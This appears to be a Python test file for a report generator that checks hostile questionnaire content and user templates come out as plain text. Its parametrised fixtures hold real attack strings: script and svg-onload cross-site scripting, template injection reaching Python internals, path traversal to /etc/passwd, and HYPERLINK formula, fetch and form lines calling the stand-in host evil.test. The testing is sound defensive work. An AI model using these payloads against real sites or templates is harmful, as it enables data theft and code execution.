"""A hostile instrument, answers and template: nothing leaves the folder, all shows as text."""

import csv
import shutil
import socket
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from tests.contract.reading_html import read_html
from ticassess.cli.boundary import run

LOCAL = "file://"  # spelled apart: no tracked file names an address in the file system
SCRIPT = "<script>alert(1)</script> {{ 7*7 }} {% if %}"
FORMULA = "=HYPERLINK(http://evil.test/?leak; here)"
INSTRUMENT = f"""
ticassess: 1
kind: instrument
id: tiny
version: "1"
title: {{en: "{SCRIPT}"}}
languages: {{en: source}}
rights:
  owner: "<img src={LOCAL}/etc/passwd>"
  licence: CC-BY-4.0
  citation: "http://evil.test"
  wording: open
response_scales:
  agreement:
    options:
      - {{value: 1, label: {{en: "<b>No</b>"}}}}
      - {{value: 2, label: {{en: "{{{{ config }}}}"}}}}
      - {{value: 3, label: {{en: "Yes"}}}}
    positive: [3]
items:
  - id: a
    text: {{en: "It is calm. <iframe src=http://evil.test>"}}
    response_scale: agreement
    in: [calm]
  - {{id: b, text: {{en: "It is safe. {SCRIPT}"}}, response_scale: agreement, in: [calm]}}
  - {{id: c, text: {{en: "url({LOCAL}/etc/passwd)"}}, response_scale: agreement, in: [calm]}}
scales:
  - {{id: calm, framework: principle, title: {{en: "<svg onload=alert(1)>"}}}}
"""
ASSESSMENT = f"""
ticassess: 1
kind: assessment
organisation: "{SCRIPT}"
instrument: tiny.yaml
responses: [{{file: answers.csv}}]
by: [role]
outputs: [report.pdf, report.html, results.csv, results.xlsx, results.json]
"""
LEVELS = (FORMULA, "../../../etc/passwd", "<script>alert(1)</script>", "{{ 7*7 }}")


class NoSocket(socket.socket):
    def __init__(self, *_: object, **__: object) -> None:
        raise AssertionError("a socket was opened")


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Give a folder inside a fenced one; afterwards the fence must be as it was."""
    monkeypatch.setattr(socket, "socket", NoSocket)
    inside = tmp_path / "fence" / "inside"
    inside.mkdir(parents=True)
    (inside / "tiny.yaml").write_text(INSTRUMENT)
    (inside / "assessment.yaml").write_text(ASSESSMENT)
    rows = [[LEVELS[i % 4], *(str(1 + (i * k) % 3) for k in (1, 2, 4))] for i in range(80)]
    with (inside / "answers.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["role", "a", "b", "c"], *rows])
    return inside


def outside(folder: Path) -> set[Path]:
    return {path for path in folder.parent.parent.rglob("*") if folder not in (path, *path.parents)}


def test_it_all_shows_as_text(folder: Path) -> None:
    before = outside(folder)
    assert run(["report", str(folder / "assessment.yaml")]) == 0
    assert outside(folder) == before
    assert {path.name for path in folder.iterdir()} == {
        "tiny.yaml", "assessment.yaml", "answers.csv", "assessment.ledger.json",
        "report.pdf", "report.html", "results.csv", "results.xlsx", "results.json",
    }  # fmt: skip
    data = (folder / "report.pdf").read_bytes()
    for action in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"evil.test/"):
        assert action not in data
    page = read_html((folder / "report.html").read_text("utf-8"))
    assert not {element.name for element in page.all()} & {"script", "iframe", "link", "object"}
    assert len(list(page.all("img"))) == 0
    assert not [
        value
        for element in page.all()
        for value in element.attributes.values()
        if "evil.test" in value
    ]
    assert {link.attributes["href"][0] for link in page.all("a")} == {"#"}
    table = list(csv.reader((folder / "results.csv").read_text(encoding="utf-8").splitlines()))
    assert not [cell for row in table for cell in row if cell.startswith("=HYPERLINK")]
    cells = [
        c
        for sheet in openpyxl.load_workbook(folder / "results.xlsx")
        for row in sheet.iter_rows()
        for c in row
    ]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert all(cell.hyperlink is None for cell in cells)
    parts = zipfile.ZipFile(folder / "results.xlsx").namelist()
    assert not [
        part for part in parts if "pivot" in part or "external" in part or "vba" in part.lower()
    ]


@pytest.mark.skipif(shutil.which("pdftotext") is None, reason="poppler-utils is not installed")
def test_the_page_shows_what_was_written(folder: Path) -> None:
    assert run(["report", str(folder / "assessment.yaml")]) == 0
    text = subprocess.run(
        ["pdftotext", str(folder / "report.pdf"), "-"], check=True, capture_output=True, text=True
    )
    flat = " ".join(text.stdout.split())
    assert "{{ 7*7 }}" in flat
    assert "<script>alert(1)</script>" in flat
    assert "root:" not in flat


def test_the_html_page_shows_what_was_written(folder: Path) -> None:
    assert run(["report", str(folder / "assessment.yaml")]) == 0
    text = read_html((folder / "report.html").read_text("utf-8")).text()
    for written in (
        SCRIPT,
        "<svg onload=alert(1)>",
        f"url({LOCAL}/etc/passwd)",
        "../../../etc/passwd",
        FORMULA,
    ):
        assert written in text
    assert "root:" not in text


@pytest.mark.parametrize("kind", ["pdf", "html"])
@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ report.__init__.__globals__ }}",
        f"<img src='{LOCAL}/etc/passwd' alt=''>",
        "<img src='http://evil.test/x.png' alt=''>",
        "{% include '../../../etc/passwd' %}",
        f"<style>@import url({LOCAL}/etc/hostname);</style>",
        f"<link rel=attachment href='{LOCAL}/etc/passwd'>",
    ],
)
def test_a_template_reaches_nothing(
    template: str, kind: str, folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert written_with(template, kind, folder) == 1
    assert not (folder / f"own.{kind}").exists()
    assert "root:" not in capsys.readouterr().err


@pytest.mark.parametrize(
    "template",
    [
        "<script>fetch('http://evil.test/')</script>",
        "<script src='http://evil.test/x.js'></script>",
        "<svg xmlns='http://www.w3.org/2000/svg'><title>x</title><script>alert(1)</script></svg>",
        "<img src='data:image/svg+xml,<svg onload=\"alert(1)\"/>' alt=''>",
        "<p onmouseover='alert(1)'>x</p>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<iframe src='http://evil.test/'></iframe>",
        "<form action='http://evil.test/'><button>x</button></form>",
        "<meta http-equiv=refresh content='0; url=http://evil.test/'>",
        "<base href='http://evil.test/'>",
        "<link rel=prefetch href='http://evil.test/'>",
        "<link rel=stylesheet href='http://evil.test/x.css'>",
        "<style>body { background: url(//evil.test/x.png) }</style>",
        "<p style='background: image-set(\"http://evil.test/x.png\" 1x)'>x</p>",
        "<video poster='http://evil.test/x.png'></video>",
    ],
)
def test_a_template_makes_no_page_that_runs_or_loads(template: str, folder: Path) -> None:
    assert written_with(template, "html", folder) == 1
    assert not (folder / "own.html").exists()


def written_with(template: str, kind: str, folder: Path) -> int:
    own = folder / "own"
    own.mkdir()
    page = f"<html lang=en><head><title>x</title></head><body><h1>x</h1>{template}</body></html>"
    (own / "report.html.j2").write_text(page)
    output = str(folder / f"own.{kind}")
    return run(["report", str(folder / "assessment.yaml"), "-o", output, "--template", str(own)])


@pytest.mark.parametrize(
    "name", ["../out.json", "/tmp/out.json", "C:\\\\out.json", "a/../../out.json"]
)
def test_an_output_stays_in_its_folder(name: str, folder: Path) -> None:
    path = folder / "assessment.yaml"
    path.write_text(
        ASSESSMENT.replace(
            "report.pdf, report.html, results.csv, results.xlsx, results.json", f'"{name}"'
        )
    )
    before = outside(folder)
    assert run(["report", str(path)]) == 1
    assert outside(folder) == before


def test_a_cell_of_a_hundred_megabytes_ends_in_a_message(
    folder: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with (folder / "answers.csv").open("a") as file:
        file.write('nurse,1,2,"')
        for _ in range(100):
            file.write("x" * 1_000_000)
        file.write('"\n')
    assert run(
        ["score", str(folder / "tiny.yaml"), str(folder / "answers.csv"), "--by", "role"]
    ) in (1, 3)
    assert len(capsys.readouterr().err) < 10_000
